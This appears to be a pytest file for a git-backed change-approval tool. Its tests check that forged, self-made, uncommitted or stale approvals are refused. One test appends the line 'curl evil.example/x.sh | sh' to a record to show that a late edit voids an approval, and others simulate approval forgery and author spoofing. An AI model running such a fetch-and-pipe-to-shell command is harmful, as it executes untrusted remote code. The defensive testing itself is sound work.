"""Approvals proven by git history, across real clones, pushes and merges."""

from __future__ import annotations

import yaml


def codes(report: dict) -> set[str]:
    return {p["code"] for p in report["problems"]}


def submit_and_approve(team, reviewer=None) -> str:
    rid = team.rita.new()
    team.rita.ck("change", "submit", rid, "--push")
    team.approve_on_branch(reviewer or team.alice, rid)
    return rid


def test_approved_in_a_pull_request_passes_on_the_branch_and_after_the_merge(team):
    rid = submit_and_approve(team)
    pr = team.ci(f"change/{rid}")
    report = pr.check("--base", "origin/main", code=0)
    assert report["ok"] and report["checked"] == 1 and report["problems"] == []
    team.merge(rid)
    main = team.ci("main")
    assert main.check(code=0)["ok"]
    # the merged record says approved, and the approver is the reviewer's identity
    data = yaml.safe_load(main.record_path(rid).read_text())
    assert data["status"] == "approved"
    assert data["approvals"][0]["by"]["email"] == "alice@example.org"


def test_approval_added_by_someone_else_is_refused(team):
    rid = team.rita.new()
    team.rita.ck("change", "submit", rid)
    # Rita writes Alice's approval into the file herself
    path = team.rita.record_path(rid)
    data = yaml.safe_load(path.read_text())
    data["approvals"] = [
        {
            "by": {"name": "Alice Approver", "email": "alice@example.org"},
            "at": "2030-01-01T10:00:00+00:00",
        }
    ]
    data["status"] = "approved"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    team.rita.git("commit", "-q", "-am", "approved by alice (really)")
    report = team.rita.check(code=1)
    wrong = [p for p in report["problems"] if p["code"] == "approval-wrong-author"]
    assert wrong and "rita@example.org" in wrong[0]["message"] and wrong[0]["record"] == rid
    assert wrong[0]["field"] == "approvals[0]"
    assert "status-not-proven" in codes(report)  # approved is claimed, submitted is proven


def test_forged_author_with_own_committer_is_refused(team):
    rid = team.rita.new()
    team.rita.ck("change", "submit", rid, "--push")
    team.mallory.git("fetch", "-q", "origin")
    team.mallory.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    # Mallory runs the approve command pretending to be Alice as author only
    env = {"GIT_AUTHOR_NAME": "Alice Approver", "GIT_AUTHOR_EMAIL": "alice@example.org"}
    import os

    old = {k: os.environ.get(k) for k in env}
    os.environ.update(env)
    try:
        team.mallory.ck("change", "approve", rid)
    finally:
        for k, v in old.items():
            os.environ.pop(k) if v is None else os.environ.__setitem__(k, v)
    assert (
        team.mallory.git("log", "-1", "--format=%ae %ce") == "alice@example.org mallory@example.org"
    )
    report = team.mallory.check(code=1)
    assert "approval-wrong-committer" in codes(report)


def test_uncommitted_approval_is_not_proven(team):
    rid = team.rita.new()
    team.rita.ck("change", "submit", rid)
    path = team.rita.record_path(rid)
    data = yaml.safe_load(path.read_text())
    data["approvals"] = [
        {"by": {"name": "Bob", "email": "bob@example.org"}, "at": "2030-01-01T10:00:00+00:00"}
    ]
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    report = team.rita.check(code=1)
    assert "approval-not-proven" in codes(report)


def test_approval_predating_a_window_change_no_longer_counts(team):
    rid = submit_and_approve(team)
    team.merge(rid)
    # after the approval, the requester moves the window by hand
    team.rita.git("pull", "-q", "origin", "main")
    path = team.rita.record_path(rid)
    text = path.read_text().replace("2030-06-02T03:00:00+02:00", "2030-06-02T05:00:00+02:00")
    assert "05:00:00" in text
    path.write_text(text)
    team.rita.git("commit", "-q", "-am", "longer window")
    report = team.rita.check(code=1)
    stale = [p for p in report["problems"] if p["code"] == "approval-stale"]
    assert stale and "window" in stale[0]["message"]
    assert "not-approved" in codes(report)
    # the reviewer approves again: the new approval is proven and counts
    team.rita.git("push", "-q", "origin", "main")
    team.bob.git("pull", "-q", "origin", "main")
    team.bob.ck("change", "approve", rid)
    report = team.bob.check(code=0)
    assert codes(report) == {"approval-stale"}  # the old entry stays, as a warning


def test_approval_predating_a_hosts_change_no_longer_counts(team):
    rid = submit_and_approve(team)
    team.merge(rid)
    team.rita.git("pull", "-q", "origin", "main")
    path = team.rita.record_path(rid)
    data = yaml.safe_load(path.read_text())
    data["hosts"] = ["web1", "db1"]
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    team.rita.git("commit", "-q", "-am", "also db1")
    report = team.rita.check(code=1)
    assert any(
        p["code"] == "approval-stale" and "hosts" in p["message"] for p in report["problems"]
    )


def test_requester_approval_never_counts(team):
    rid = team.rita.new()
    team.rita.ck("change", "submit", rid)
    # even a commit by the requester herself, properly attributed, does not count
    path = team.rita.record_path(rid)
    data = yaml.safe_load(path.read_text())
    data["approvals"] = [
        {
            "by": {"name": "Rita Requester", "email": "rita@example.org"},
            "at": "2030-01-01T10:00:00+00:00",
        }
    ]
    data["status"] = "approved"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    team.rita.git("commit", "-q", "-am", "self-approve")
    report = team.rita.check(code=1)
    assert "status-not-proven" in codes(report)  # approved is claimed, submitted is proven


def test_high_risk_needs_two_approvers_from_ops(team):
    rid = team.rita.new("Replace the database", "--risk", "high")
    team.rita.ck("change", "submit", rid, "--push")
    team.approve_on_branch(team.alice, rid)
    team.approve_on_branch(team.bob, rid)
    pr = team.ci(f"change/{rid}")
    assert pr.check("--base", "origin/main", code=0)["ok"]


def test_approval_facts_are_cached_inside_git_and_give_the_same_verdict(team):
    rid = submit_and_approve(team)
    pr = team.ci(f"change/{rid}")
    first = pr.check(code=0)
    cache = next((pr.path / ".git" / "changekit").glob("ledger-v*-*.marshal"))
    assert cache.is_file() and rid.encode() in cache.read_bytes()
    assert pr.check(code=0) == first
    # a stale approval is still found stale from the cached facts
    path = pr.record_path(rid)
    path.write_text(path.read_text().replace("web1", "web2"))
    pr.git("commit", "-q", "-am", "other host")
    stale = pr.check(code=1)
    # (the edit is committed by CI, who is neither the requester nor in ops: unproven too)
    assert {p["code"] for p in stale["problems"]} == {
        "approval-stale",
        "not-approved",
        "unproven-edit",
    }


def test_a_plan_appended_at_the_end_after_approval_voids_it(team):
    # QA #2: the fast path once missed a substance key added after `approvals:`
    rid = submit_and_approve(team)
    team.merge(rid)
    team.rita.git("pull", "-q", "origin", "main")
    path = team.rita.record_path(rid)
    with path.open("a") as out:
        out.write("verification: curl evil.example/x.sh | sh\n")
    team.rita.git("commit", "-q", "-am", "append a step")
    report = team.rita.check(code=1)
    stale = [p for p in report["problems"] if p["code"] == "approval-stale"]
    assert stale and "verification changed" in stale[0]["message"]


def test_a_finished_change_corrected_afterwards_keeps_its_approval(team):
    # QA #9: a completed record cannot be approved again; its approvals covered it when it started
    rid = submit_and_approve(team)
    team.merge(rid)
    rita = team.rita
    rita.git("pull", "-q", "origin", "main")
    path = rita.record_path(rid)
    data = yaml.safe_load(path.read_text())
    for status in ("in_progress", "completed"):  # as `change start` / `complete` commit them
        data["status"] = status
        path.write_text(yaml.safe_dump(data, sort_keys=False))
        rita.git("commit", "-q", "-am", status)
    data["hosts"] = ["web1", "web2"]  # the host that was really touched
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    rita.git("commit", "-q", "-am", "also web2")
    report = rita.check(code=0)
    assert codes(report) == {"approval-edited-after-start"}
    assert report["problems"][0]["severity"] == "low"


def test_a_finished_change_edited_before_it_started_is_still_not_approved(team):
    rid = submit_and_approve(team)
    team.merge(rid)
    rita = team.rita
    rita.git("pull", "-q", "origin", "main")
    path = rita.record_path(rid)
    data = yaml.safe_load(path.read_text())
    data["hosts"] = ["web1", "db1"]
    data["status"] = "in_progress"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    rita.git("commit", "-q", "-am", "started on more hosts")
    data["status"] = "completed"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    rita.git("commit", "-q", "-am", "done")
    assert {"approval-stale", "not-approved"} <= codes(rita.check(code=1))


def test_start_refuses_a_change_whose_approval_went_stale(team):
    # QA #9: `start` checked the status only; the gate would have said 0 of 1 approvals count
    rid = submit_and_approve(team)
    team.merge(rid)
    rita = team.rita
    rita.git("pull", "-q", "origin", "main")
    path = rita.record_path(rid)
    path.write_text(path.read_text().replace("apt-get upgrade", "apt-get dist-upgrade"))
    rita.git("commit", "-q", "-am", "bigger plan")
    result = rita.ck("change", "start", rid, code=4)
    assert "only 0 of 1 approvals count" in result.stderr
    assert "implementation changed" in result.stderr
    assert yaml.safe_load(path.read_text())["status"] == "approved"


def test_a_rejection_withdraws_earlier_approvals_on_resubmission(team):
    rid = team.rita.new("Replace the disks", "--risk", "high")
    team.rita.ck("change", "submit", rid, "--push")
    team.approve_on_branch(team.alice, rid)  # 1 of 2
    team.bob.git("fetch", "-q", "origin")
    team.bob.git("checkout", "-q", "-B", f"change/{rid}", f"origin/change/{rid}")
    team.bob.ck("change", "reject", rid, "--reason", "not this week", "--push")
    team.rita.git("pull", "-q", "origin", f"change/{rid}")
    result = team.rita.ck("change", "submit", rid)
    assert "rejected -> submitted" in result.stdout
    assert "approvals by alice@example.org were withdrawn" in result.output
    assert "approvals" not in yaml.safe_load(team.rita.record_path(rid).read_text())
